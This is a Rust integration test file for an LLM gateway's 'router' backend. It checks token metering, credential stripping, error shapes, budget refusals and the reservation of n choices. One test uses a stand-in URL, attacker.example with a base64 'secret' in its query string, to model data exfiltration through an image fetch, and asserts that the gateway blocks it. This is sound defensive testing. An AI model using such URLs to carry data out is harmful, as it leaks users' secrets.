//! The gateway's rollout router models (`backend = "router"`) as processes: fakellm as the
//! router, the real gateway in front of it, calls over the real task socket. `POST
//! /v1/chat/completions` streamed and not, metered to the token from the chat usage (the
//! stream's usage forced on), the rollout headers kept and every credential dropped, 404s both
//! ways, the budget's 403, upstream errors capped and 5xx in generic words, all in OpenAI's
//! error shape.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use agentbox_tests::harness::{FakeLlm, GatewayProcess, unix_request};
use serde_json::{Value, json};

const TOKEN: &str = "task-token-chat-0123456789";

/// The router model and Ollama of [`FakeLlm::router_gateway_config`], a second router model
/// with its own upstream name and output cap, and an Ollama model.
fn config(fake: &FakeLlm) -> String {
    let router = fake.base_url();
    format!(
        r#"{}
[models.named]
backend = "router"
base_url = "{router}/v1/"
upstream_model = "policy-v3"
max_output_tokens = 512

[models.local]
backend = "ollama"
upstream_model = "qwen-upstream"
"#,
        fake.router_gateway_config()
    )
}

fn start(script: &Value) -> (FakeLlm, GatewayProcess) {
    let fake = FakeLlm::scripted(script).unwrap();
    let gw = GatewayProcess::start(&config(&fake), &[]).unwrap();
    (fake, gw)
}

async fn open(gw: &GatewayProcess, tid: &str, model: &str, budget: Value) {
    let r = gw.open_task(tid, model, TOKEN, budget).await.unwrap();
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
}

struct Reply {
    status: u16,
    headers: std::collections::BTreeMap<String, String>,
    text: String,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_str(&self.text).unwrap_or_else(|e| panic!("{e}: {}", self.text))
    }
}

async fn post(
    gw: &GatewayProcess,
    tid: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &Value,
) -> Reply {
    let mut h = vec![("content-type", "application/json")];
    h.extend_from_slice(headers);
    let r = unix_request(&gw.task_socket(tid), "POST", path, &h, body.to_string())
        .await
        .unwrap();
    Reply {
        status: r.status,
        headers: r.headers,
        text: String::from_utf8_lossy(&r.body).into_owned(),
    }
}

fn chat(stream: bool) -> Value {
    json!({
        "model": "proxy-model",
        "messages": [{"role": "user", "content": "hello router"}],
        "stream": stream,
        "max_tokens": 100,
    })
}

const AUTH: (&str, &str) = ("authorization", "Bearer task-token-chat-0123456789");

fn usage_of(view: &Value) -> (u64, u64, u64, u64, u64) {
    let u = &view["usage"];
    let n = |k: &str| u[k].as_u64().unwrap();
    (
        n("input_tokens"),
        n("output_tokens"),
        n("cache_read_input_tokens"),
        n("total_tokens"),
        n("requests"),
    )
}

#[tokio::test]
async fn chat_completions_are_metered_to_the_token_streamed_and_not() {
    let (fake, gw) = start(&json!({"steps": [
        {"text": "one", "usage": {"input_tokens": 101, "output_tokens": 11}},
        {"text": "two", "usage": {"input_tokens": 202, "output_tokens": 22, "cache_read_input_tokens": 50}},
        {"tool_calls": [{"name": "write", "input": {"filePath": "a", "content": "b"}}],
         "usage": {"input_tokens": 303, "output_tokens": 33}}
    ]}));
    open(&gw, "c1", "rollout", json!({})).await;

    let r = post(&gw, "c1", "/v1/chat/completions", &[AUTH], &chat(false)).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let body = r.json();
    assert_eq!(body["choices"][0]["message"]["content"], "one");
    assert_eq!(body["usage"]["prompt_tokens"], 101);

    // A stream without stream_options: the gateway asks for the usage chunk itself.
    let r = post(
        &gw,
        "c1",
        "/v1/chat/completions",
        &[("x-api-key", TOKEN)],
        &chat(true),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(r.headers["content-type"].starts_with("text/event-stream"));
    assert!(r.text.contains("chat.completion.chunk"), "{}", r.text);
    assert!(r.text.contains("\"prompt_tokens\":252"), "{}", r.text);
    assert!(r.text.trim_end().ends_with("data: [DONE]"), "{}", r.text);

    // A stream that asked for no usage still gets (and is billed from) it.
    let mut no_usage = chat(true);
    no_usage["stream_options"] = json!({"include_usage": false});
    let r = post(&gw, "c1", "/v1/chat/completions", &[AUTH], &no_usage).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(r.text.contains("tool_calls"), "{}", r.text);

    let requests = fake.chat_requests().unwrap();
    assert_eq!(requests.len(), 3);
    assert!(requests[0]["body"].get("stream_options").is_none());
    for req in &requests[1..] {
        assert_eq!(
            req["body"]["stream_options"]["include_usage"], true,
            "{req}"
        );
    }
    // No upstream_model: the caller's model goes to the router.
    assert_eq!(requests[0]["body"]["model"], "proxy-model");
    assert_eq!(requests[0]["path"], "/v1/chat/completions");

    // fakellm reports prompt_tokens = input + cache read; the gateway books the cached part
    // as cache reads, so the totals match fakellm's to the token.
    let view = gw.task("c1").await.unwrap();
    assert_eq!(
        usage_of(&view),
        (
            101 + 202 + 303,
            11 + 22 + 33,
            50,
            101 + 11 + 252 + 22 + 303 + 33,
            3
        ),
        "{view}"
    );
    assert_eq!(view["reserved"]["tokens"], 0, "{view}");
    assert_eq!(view["in_flight"], 0, "{view}");
}

#[tokio::test]
async fn rollout_headers_are_kept_and_credentials_never_reach_the_router() {
    let (fake, gw) = start(
        &json!({"fallback": {"text": "ok", "usage": {"input_tokens": 5, "output_tokens": 1}}}),
    );
    open(&gw, "h1", "named", json!({})).await;
    let tags = [
        ("x-smg-routing-key", "sess-9"),
        ("x-session-id", "sess-9"),
        ("x-instance-id", "inst-9"),
        ("x-turn-id", "turn-9"),
        ("x-dressage-partial-rollout", "1"),
        ("x-dressage-sandbox-id", "sb-9"),
        ("x-dressage-expected-version", "v7"),
    ];
    let mut headers = vec![AUTH, ("x-api-key", TOKEN), ("cookie", "c=1")];
    headers.extend_from_slice(&tags);
    let mut body = chat(false);
    body["max_tokens"] = json!(100_000);
    body["stream_options"] = json!({"include_usage": true});
    let r = post(&gw, "h1", "/v1/chat/completions", &headers, &body).await;
    assert_eq!(r.status, 200, "{}", r.text);

    let log = fake.requests().unwrap();
    assert_eq!(log.len(), 1);
    let req = &log[0];
    for (k, v) in tags {
        assert_eq!(req["headers"][k], v, "{k} in {req}");
    }
    for k in ["authorization", "x-api-key", "cookie"] {
        assert!(
            req["headers"].get(k).is_none(),
            "{k} reached the router: {req}"
        );
    }
    assert!(
        !req.to_string().contains(TOKEN),
        "the task token reached the router"
    );
    // upstream_model rewrites, the output cap clamps, a non-stream loses stream_options.
    assert_eq!(req["body"]["model"], "policy-v3");
    assert_eq!(req["body"]["max_tokens"], 512);
    assert!(req["body"].get("stream_options").is_none(), "{req}");
}

#[tokio::test]
async fn wrong_routes_and_wrong_tokens_are_refused_in_each_protocols_shape() {
    let (fake, gw) = start(&json!({"fallback": {"text": "ok"}}));
    open(&gw, "r1", "rollout", json!({})).await;
    open(&gw, "l1", "local", json!({})).await;

    // /v1/messages on a router task: 404 naming the route it serves.
    let r = post(
        &gw,
        "r1",
        "/v1/messages",
        &[AUTH],
        &json!({"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "x"}]}),
    )
    .await;
    assert_eq!(r.status, 404, "{}", r.text);
    assert!(r.text.contains("/v1/chat/completions"), "{}", r.text);

    // Chat on a non-router task: 404 in OpenAI's shape.
    let r = post(&gw, "l1", "/v1/chat/completions", &[AUTH], &chat(false)).await;
    assert_eq!(r.status, 404, "{}", r.text);
    let e = r.json();
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not a rollout router"),
        "{e}"
    );
    assert!(
        e.get("type").is_none(),
        "OpenAI shape, not Anthropic's: {e}"
    );

    // A wrong or missing token: 401, before anything else.
    for headers in [vec![("authorization", "Bearer wrong")], vec![]] {
        let r = post(&gw, "r1", "/v1/chat/completions", &headers, &chat(false)).await;
        assert_eq!(r.status, 401, "{}", r.text);
        assert_eq!(r.json()["error"]["type"], "authentication_error");
    }
    // Bad input: 400 in OpenAI's shape.
    let mut bad = chat(false);
    bad["max_completion_tokens"] = json!(-1);
    let r = post(&gw, "r1", "/v1/chat/completions", &[AUTH], &bad).await;
    assert_eq!(r.status, 400, "{}", r.text);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("max_completion_tokens")
    );

    assert!(fake.requests().unwrap().is_empty(), "nothing went upstream");
    assert_eq!(usage_of(&gw.task("r1").await.unwrap()).4, 0);
}

#[tokio::test]
async fn an_exhausted_budget_is_403_before_any_upstream_call() {
    let (fake, gw) = start(
        &json!({"fallback": {"text": "ok", "usage": {"input_tokens": 100, "output_tokens": 20}}}),
    );
    open(&gw, "b1", "rollout", json!({"tokens": 100})).await;
    let mut body = chat(false);
    body["max_tokens"] = json!(50);
    let first = post(&gw, "b1", "/v1/chat/completions", &[AUTH], &body).await;
    assert_eq!(first.status, 200, "{}", first.text);
    // A lone request is admitted while anything is left (ledger.rs); it billed 120 of 100, so
    // nothing more is.
    let r = post(&gw, "b1", "/v1/chat/completions", &[AUTH], &body).await;
    assert_eq!(r.status, 403, "{}", r.text);
    let e = r.json();
    assert_eq!(e["error"]["type"], "permission_error", "{e}");
    assert!(
        e["error"]["message"].as_str().unwrap().contains("budget"),
        "{e}"
    );
    assert_eq!(fake.requests().unwrap().len(), 1);
    let view = gw.task("b1").await.unwrap();
    assert_eq!(usage_of(&view), (100, 20, 0, 120, 1), "{view}");
}

#[tokio::test]
async fn router_errors_are_capped_and_5xx_never_names_the_router() {
    let huge = "e".repeat(200_000);
    let (fake, gw) = start(&json!({"steps": [
        {"error": {"status": 400, "type": "invalid_request_error", "message": huge}},
        {"error": {"status": 503, "message": "router at 10.1.2.3:8000 is down"}}
    ]}));
    open(&gw, "e1", "rollout", json!({})).await;

    let r = post(&gw, "e1", "/v1/chat/completions", &[AUTH], &chat(false)).await;
    assert_eq!(r.status, 400, "{}", &r.text[..r.text.len().min(300)]);
    assert!(
        r.text.len() < 70_000,
        "the error body is capped: {} bytes",
        r.text.len()
    );
    assert!(r.json()["error"].is_object());

    let r = post(&gw, "e1", "/v1/chat/completions", &[AUTH], &chat(true)).await;
    assert!(r.status >= 500, "{}", r.text);
    let e = r.json();
    let message = e["error"]["message"].as_str().unwrap();
    assert!(!message.contains("10.1.2.3"), "{e}");
    assert!(!r.text.contains(&fake.base_url()), "{e}");
    assert!(!r.text.contains("127.0.0.1"), "{e}");

    // Refused calls bill nothing.
    let view = gw.task("e1").await.unwrap();
    assert_eq!(usage_of(&view).3, 0, "{view}");
    assert_eq!(view["reserved"]["tokens"], 0, "{view}");
}

#[tokio::test]
async fn a_stream_cut_before_its_usage_bills_the_estimate_and_the_deltas() {
    let (_fake, gw) = start(&json!({"steps": [
        {"text": "z".repeat(3000), "usage": {"input_tokens": 40, "output_tokens": 900},
         "disconnect_after_events": 4}
    ]}));
    open(&gw, "cut", "rollout", json!({})).await;
    let r = post(&gw, "cut", "/v1/chat/completions", &[AUTH], &chat(true)).await;
    assert_eq!(r.status, 200);
    // The stream ends with OpenAI's error frame, not silently.
    assert!(r.text.contains("\"error\""), "{}", r.text);
    let view = gw.task("cut").await.unwrap();
    let (input, output, _, total, requests) = usage_of(&view);
    assert_eq!(requests, 1);
    assert!(input >= 1, "at least the input estimate: {view}");
    assert!(output >= 1, "at least the deltas read: {view}");
    assert_eq!(total, input + output);
    assert_eq!(view["reserved"]["tokens"], 0, "settled once: {view}");
}

/// `n` choices are each generated up to the output cap and all billed, so the reservation
/// covers every one: a second request that would fit beside a one-choice reservation is
/// refused beside an eight-choice one. Without that, a task could run several `n = 64`
/// requests at once, each reserved as one answer.
#[tokio::test]
async fn every_choice_asked_for_is_reserved() {
    let (_fake, gw) = start(&json!({"fallback": {
        "text": "ok", "delay_ms": 1500, "usage": {"input_tokens": 10, "output_tokens": 20}
    }}));
    open(&gw, "n1", "rollout", json!({"tokens": 1000})).await;
    let mut body = chat(false);
    body["n"] = json!(8);
    let first = post(&gw, "n1", "/v1/chat/completions", &[AUTH], &body);
    let meanwhile = async {
        let mut view = Value::Null;
        for _ in 0..500 {
            view = gw.task("n1").await.unwrap();
            if view["reserved"]["tokens"].as_u64().unwrap() > 0 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        let second = post(&gw, "n1", "/v1/chat/completions", &[AUTH], &body).await;
        (view, second)
    };
    let (first, (view, second)) = tokio::join!(first, meanwhile);
    let reserved = view["reserved"]["tokens"].as_u64().unwrap();
    assert!(reserved >= 8 * 100, "eight choices of 100 reserved: {view}");
    assert_eq!(second.status, 403, "{}", second.text);
    assert_eq!(first.status, 200, "{}", first.text);

    for bad in [json!(0), json!(-1), json!("8"), json!(1.5)] {
        let mut body = chat(false);
        body["n"] = bad.clone();
        let r = post(&gw, "n1", "/v1/chat/completions", &[AUTH], &body).await;
        assert_eq!(r.status, 400, "n = {bad}: {}", r.text);
        assert!(
            r.text.contains("n: expected a positive integer"),
            "{}",
            r.text
        );
    }
}

/// What a router would read as more than it was reserved for is refused or bounded before any
/// upstream call: a `stream` that is not a boolean (a lax router reads `1` as true and streams
/// without the usage chunk the gateway forces on), media it would fetch (its cost is not in the
/// request, and its URL can carry data out), and a request with no output limit gets one
/// written, the output it reserved.
#[tokio::test]
async fn what_a_router_would_read_otherwise_is_refused_or_bounded() {
    let (fake, gw) = start(&json!({"fallback": {
        "text": "ok", "usage": {"input_tokens": 10, "output_tokens": 2}
    }}));
    open(&gw, "lax", "rollout", json!({})).await;
    for stream in [json!(1), json!("true"), json!({})] {
        let mut body = chat(false);
        body["stream"] = stream.clone();
        let r = post(&gw, "lax", "/v1/chat/completions", &[AUTH], &body).await;
        assert_eq!(r.status, 400, "stream = {stream}: {}", r.text);
        assert!(r.text.contains("stream: expected a boolean"), "{}", r.text);
    }
    let image = |url: &str| {
        let mut body = chat(false);
        body["messages"][0]["content"] = json!([
            {"type": "text", "text": "describe"},
            {"type": "image_url", "image_url": {"url": url}}
        ]);
        body
    };
    let r = post(
        &gw,
        "lax",
        "/v1/chat/completions",
        &[AUTH],
        &image("https://attacker.example/x.png?d=c2VjcmV0"),
    )
    .await;
    assert_eq!(r.status, 400, "{}", r.text);
    assert!(r.text.contains("content[1].image_url"), "{}", r.text);
    assert!(
        fake.requests().unwrap().is_empty(),
        "refused requests reached the router: {:?}",
        fake.requests().unwrap()
    );
    // Inline media goes through, and counts at least an image in the reservation.
    let r = post(
        &gw,
        "lax",
        "/v1/chat/completions",
        &[AUTH],
        &image("data:image/png;base64,AAAA"),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    // No output limit: the default is written, so the router stops where the reservation did.
    let mut body = chat(false);
    body.as_object_mut().unwrap().remove("max_tokens");
    let r = post(&gw, "lax", "/v1/chat/completions", &[AUTH], &body).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let reqs = fake.requests().unwrap();
    assert_eq!(reqs.len(), 2);
    assert_eq!(reqs[1]["body"]["max_tokens"], 4096, "{}", reqs[1]);
}
